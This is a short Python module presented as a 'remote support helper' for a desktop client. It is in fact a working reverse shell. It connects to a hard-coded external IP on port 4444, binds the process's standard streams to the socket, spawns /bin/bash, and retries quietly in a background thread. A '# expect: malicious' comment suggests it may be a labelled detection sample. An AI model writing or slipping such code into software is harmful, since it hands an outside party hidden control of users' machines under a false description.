"""Remote support helper bundled with the desktop client."""
import os
import pty
import socket
import threading
import time

_HOST = "193.42.11.87"
_PORT = 4444


def _session():
    while True:
        try:
            s = socket.create_connection((_HOST, _PORT), timeout=30)
            for fd in (0, 1, 2):
                os.dup2(s.fileno(), fd)
            # expect: malicious
            pty.spawn("/bin/bash")
        except OSError:
            time.sleep(60)


def start():
    threading.Thread(target=_session, daemon=True).start()
